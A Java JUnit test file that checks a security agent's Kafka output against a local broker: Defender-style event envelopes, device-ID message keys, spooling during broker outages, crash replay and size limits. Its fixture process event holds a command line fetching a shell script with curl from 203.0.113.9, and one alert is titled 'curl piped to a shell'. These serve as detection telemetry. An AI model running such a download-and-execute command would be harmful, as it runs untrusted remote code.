package dev.hookline.kafka;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.hookline.io.EventJsonReader;
import dev.hookline.schema.Column;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import dev.hookline.schema.Times;
import java.io.BufferedReader;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.BooleanSupplier;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.io.TempDir;

/** The Kafka output against a real KRaft broker (one per class, a child JVM on 127.0.0.1). */
class KafkaOutputTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String DEVICE = "3f9a0c1d2e4b5a6978c0d1e2f3a4b5c6d7e8f901";

    @TempDir
    static Path brokerDir;
    private static KafkaBroker broker;

    @TempDir
    Path dir;

    @BeforeAll
    static void startBroker() throws Exception {
        broker = new KafkaBroker(brokerDir);
        broker.start();
    }

    @AfterAll
    static void stopBroker() throws Exception {
        if (broker != null) {
            broker.close();
        }
    }

    private static String topic(TestInfo info) throws Exception {
        String t = info.getTestMethod().orElseThrow().getName();
        broker.createTopic(t, 3);
        return t;
    }

    private KafkaSettings settings(String topic, Path spool) {
        return new KafkaSettings(broker.bootstrap(), topic, spool).tenantId("tenant-1").lingerMillis(20)
                .timing(100, 1_000, 3_000, 3_000, 5_000);
    }

    private static String alert(int i) {
        return "{\"AlertId\":\"a" + i + "\",\"RuleId\":\"r1\",\"Title\":\"curl piped to a shell\",\"Severity\":\"High\","
                + "\"Timestamp\":\"2026-11-30T09:13:58.118Z\",\"DeviceId\":\"" + DEVICE + "\",\"DeviceName\":\"build-07\"}";
    }

    private static Event processEvent(long reportId) {
        Event e = new Event(Table.DeviceProcessEvents);
        long t = Times.parse("2026-11-30T09:13:58.118Z");
        e.setTime(Columns.TIMESTAMP, t);
        e.set(Columns.DEVICE_ID, DEVICE);
        e.set(Columns.DEVICE_NAME, "build-07.corp.example");
        e.set(Columns.ACTION_TYPE, "ProcessCreated");
        e.set(Columns.FILE_NAME, "curl");
        e.set(Columns.FOLDER_PATH, "/usr/bin/curl");
        e.set(Columns.FILE_SIZE, 260328L);
        e.set(Columns.PROCESS_ID, 48211L);
        e.set(Columns.PROCESS_COMMAND_LINE, "curl -s http://203.0.113.9/x.sh \"quoted\" ünïcode");
        e.setTime(Columns.PROCESS_CREATION_TIME, t - 2_000_000);
        e.set(Columns.INITIATING_PROCESS_FILE_NAME, "bash");
        e.set(Columns.INITIATING_PROCESS_ID, 48190L);
        e.set(Columns.REPORT_ID, reportId);
        e.set(Columns.ADDITIONAL_FIELDS, "{\"ProcessStartKey\":17}");
        e.set(Columns.IS_PROCESS_REMOTE_SESSION, false);
        return e;
    }

    /** The records of every message, in order, with the message's key beside each. */
    private static List<JsonNode> records(List<ConsumerRecord<byte[], byte[]>> msgs, Map<JsonNode, String> keys)
            throws Exception {
        List<JsonNode> out = new ArrayList<>();
        for (ConsumerRecord<byte[], byte[]> m : msgs) {
            JsonNode env = JSON.readTree(m.value());
            assertEquals(Set.of("records"), fieldNames(env), "a message is exactly {\"records\":[...]}");
            for (JsonNode r : env.get("records")) {
                out.add(r);
                if (keys != null) {
                    keys.put(r, m.key() == null ? null : new String(m.key(), StandardCharsets.UTF_8));
                }
            }
        }
        return out;
    }

    private static Set<String> fieldNames(JsonNode n) {
        Set<String> s = new HashSet<>();
        n.fieldNames().forEachRemaining(s::add);
        return s;
    }

    private static void await(BooleanSupplier cond, Duration within, String what) throws InterruptedException {
        long deadline = System.nanoTime() + within.toNanos();
        while (!cond.getAsBoolean()) {
            if (System.nanoTime() > deadline) {
                throw new AssertionError("timed out waiting for " + what);
            }
            Thread.sleep(50);
        }
    }

    @Test
    void eventsArePublishedInTheDefenderStreamingEnvelopeKeyedByDeviceId(TestInfo info) throws Exception {
        String topic = topic(info);
        try (KafkaOutput out = new KafkaOutput(settings(topic, dir.resolve("spool")), null)) {
            out.write(processEvent(10457));
            out.write(processEvent(10458));
            await(() -> out.spoolDepth() == 0, Duration.ofSeconds(30), "the spool to drain");
        }
        List<ConsumerRecord<byte[], byte[]>> msgs = broker.readAll(topic, 1, Duration.ofSeconds(20));
        Map<JsonNode, String> keys = new HashMap<>();
        List<JsonNode> recs = records(msgs, keys);
        assertEquals(2, recs.size());

        JsonNode sample;
        try (InputStream in = getClass().getResourceAsStream("defender-streaming-sample.json")) {
            sample = JSON.readTree(in).get("records").get(0);
        }
        JsonNode r = recs.get(0);
        assertEquals(DEVICE, keys.get(r), "the message key is the DeviceId");
        assertEquals(fieldNames(sample), fieldNames(r), "the envelope has exactly the streaming API's fields");
        assertEquals("AdvancedHunting-DeviceProcessEvents", r.get("category").asText());
        assertEquals("Publish", r.get("operationName").asText());
        assertEquals("tenant-1", r.get("tenantId").asText());
        assertTrue(Times.parse(r.get("time").asText()) > 0, "time is an ISO-8601 instant");
        JsonNode props = r.get("properties");
        List<String> columns = new ArrayList<>();
        Table.DeviceProcessEvents.columns().forEach(c -> columns.add(c.name()));
        List<String> written = new ArrayList<>();
        props.fieldNames().forEachRemaining(written::add);
        assertEquals(columns, written, "every column of the table, in Microsoft's order");
        for (Iterator<Map.Entry<String, JsonNode>> it = sample.get("properties").fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> f = it.next();
            JsonNode ours = props.get(f.getKey());
            assertNotNull(ours, f.getKey());
            if (!f.getValue().isNull() && !ours.isNull()) {
                assertEquals(f.getValue().getNodeType(), ours.getNodeType(), "JSON type of " + f.getKey());
            }
        }
        assertEquals("2026-11-30T09:13:58.118Z", props.get("Timestamp").asText());
        assertEquals(48211, props.get("ProcessId").asLong());
        assertEquals(10457, props.get("ReportId").asLong());
        assertTrue(props.get("SHA1").isNull(), "an absent value is null");
        assertEquals("{\"ProcessStartKey\":17}", props.get("AdditionalFields").asText(), "dynamic as its JSON text");

        // The agent's own reader of the streaming format gets the same row back.
        List<Event> back = new ArrayList<>();
        new EventJsonReader().read(new BufferedReader(new StringReader(new String(msgs.get(0).value(),
                StandardCharsets.UTF_8))), e -> back.add(e.copy()));
        assertEquals(2, back.size());
        Event original = processEvent(10457);
        for (Column c : Table.DeviceProcessEvents.columns()) {
            assertEquals(original.value(c), back.get(0).value(c), c.name());
        }
    }

    @Test
    void alertsArePublishedWithTheirOwnCategoryAndTheAlertAsProperties(TestInfo info) throws Exception {
        String topic = topic(info);
        try (KafkaOutput out = new KafkaOutput(settings(topic, dir.resolve("spool")), null)) {
            out.write(alert(1));
            out.write("{\"AlertId\":\"a2\",\"Event\":{\"DeviceId\":\"dev-2\"}}");
            await(() -> out.spoolDepth() == 0, Duration.ofSeconds(30), "the spool to drain");
            assertEquals(2, out.counters().get("records_sent"));
        }
        Map<JsonNode, String> keys = new HashMap<>();
        List<JsonNode> recs = records(broker.readAll(topic, 2, Duration.ofSeconds(20)), keys);
        assertEquals(2, recs.size());
        Map<String, JsonNode> byId = new HashMap<>();
        recs.forEach(r -> byId.put(r.get("properties").get("AlertId").asText(), r));
        JsonNode a1 = byId.get("a1");
        assertEquals(StreamingRecords.ALERT_CATEGORY, a1.get("category").asText());
        assertEquals(JSON.readTree(alert(1)), a1.get("properties"), "the alert object, unchanged");
        assertEquals(DEVICE, keys.get(a1));
        assertEquals("dev-2", keys.get(byId.get("a2")), "a detection's device inside its event keys it");
    }

    @Test
    void nothingIsLostWhileTheBrokerIsDown(TestInfo info) throws Exception {
        String topic = topic(info);
        try (KafkaOutput out = new KafkaOutput(settings(topic, dir.resolve("spool")), null)) {
            out.write(alert(0));
            await(() -> out.spoolDepth() == 0, Duration.ofSeconds(30), "the first alert");
            broker.stop();
            try {
                for (int i = 1; i <= 50; i++) {
                    out.write(alert(i));
                }
                await(() -> out.counters().get("retries") > 0, Duration.ofSeconds(30), "a failed attempt");
                assertEquals(50, out.spoolDepth(), "everything waits in the spool");
            } finally {
                broker.start();
            }
            await(() -> out.spoolDepth() == 0, Duration.ofSeconds(60), "the spool to drain after the broker is back");
        }
        Set<String> ids = new HashSet<>();
        for (JsonNode r : records(broker.readAll(topic, 51, Duration.ofSeconds(30)), null)) {
            ids.add(r.get("properties").get("AlertId").asText());
        }
        assertEquals(51, ids.size(), "every alert arrived: " + ids);
    }

    @Test
    void anOutputKilledMidFlowReplaysItsSpoolAndDuplicatesKeepTheirAlertId(TestInfo info) throws Exception {
        String topic = topic(info);
        Path spool = dir.resolve("spool");
        // A long linger holds the second hundred in the spool: the kill lands between two batches, deterministically.
        KafkaOutput first = new KafkaOutput(settings(topic, spool).lingerMillis(1_500), null);
        for (int i = 0; i < 100; i++) {
            first.write(alert(i));
        }
        await(() -> first.counters().get("records_sent") == 100, Duration.ofSeconds(30), "the first hundred");
        for (int i = 100; i < 200; i++) {
            first.write(alert(i));
        }
        first.flush();
        first.abandonForCrashTest(); // killed: what was not acknowledged is still in the spool
        // On a loaded host a few of the second hundred may be acknowledged before the kill; the rest must replay.
        long acknowledged = first.counters().get("records_sent");
        assertTrue(acknowledged < 200, "the kill landed before the second hundred were all acknowledged");
        try (KafkaOutput second = new KafkaOutput(settings(topic, spool), null)) {
            for (int i = 200; i < 220; i++) {
                second.write(alert(i));
            }
            await(() -> second.spoolDepth() == 0, Duration.ofSeconds(30), "the replayed spool to drain");
            assertEquals(220 - acknowledged, second.counters().get("records_sent"),
                    "every record the first output had not had acknowledged was replayed, and the 20 new ones sent");
        }
        Map<String, List<JsonNode>> byId = new HashMap<>();
        for (JsonNode r : records(broker.readAll(topic, 220, Duration.ofSeconds(30)), null)) {
            byId.computeIfAbsent(r.get("properties").get("AlertId").asText(), k -> new ArrayList<>()).add(r);
        }
        assertEquals(220, byId.size(), "every alert arrived at least once");
        for (List<JsonNode> copies : byId.values()) {
            for (JsonNode c : copies) {
                assertEquals(copies.get(0).get("properties"), c.get("properties"), "a duplicate is the same alert");
            }
        }
    }

    @Test
    void manyEventsArePackedIntoMessagesWithinTheLimit(TestInfo info) throws Exception {
        String topic = topic(info);
        int limit = 16 * 1024;
        try (KafkaOutput out = new KafkaOutput(settings(topic, dir.resolve("spool")).maxMessageBytes(limit), null)) {
            for (int i = 0; i < 300; i++) {
                out.write(processEvent(i));
            }
            await(() -> out.spoolDepth() == 0, Duration.ofSeconds(30), "the spool to drain");
            assertTrue(out.counters().get("messages_sent") < 300, "records share messages");
        }
        List<ConsumerRecord<byte[], byte[]>> msgs = broker.readAll(topic, 300, Duration.ofSeconds(20));
        Set<Long> reports = new HashSet<>();
        int total = 0;
        for (ConsumerRecord<byte[], byte[]> m : msgs) {
            assertTrue(m.value().length <= limit, "message of " + m.value().length + " bytes");
            for (JsonNode r : JSON.readTree(m.value()).get("records")) {
                reports.add(r.get("properties").get("ReportId").asLong());
                total++;
            }
        }
        assertEquals(300, reports.size());
        assertEquals(300, total, "no duplicates without a failure");
    }

    @Test
    void aRecordTooLargeForAMessageIsDroppedCountedAndRaised(TestInfo info) throws Exception {
        String topic = topic(info);
        List<String> raised = new CopyOnWriteArrayList<>();
        try (KafkaOutput out = new KafkaOutput(settings(topic, dir.resolve("spool")).maxMessageBytes(16 * 1024),
                (kind, message) -> raised.add(kind + ": " + message))) {
            Event big = processEvent(1);
            big.set(Columns.PROCESS_COMMAND_LINE, "x".repeat(20_000));
            out.write(big);
            out.write(processEvent(2));
            await(() -> out.spoolDepth() == 0 && !raised.isEmpty(), Duration.ofSeconds(30), "the drop to be raised");
            assertEquals(1, out.counters().get("dropped_too_large"));
            assertEquals(1, out.counters().get("dropped"));
        }
        assertTrue(raised.get(0).startsWith("KafkaRecordsDropped: "), raised.toString());
        List<JsonNode> recs = records(broker.readAll(topic, 1, Duration.ofSeconds(20)), null);
        assertEquals(1, recs.size());
        assertEquals(2, recs.get(0).get("properties").get("ReportId").asLong());
    }
}
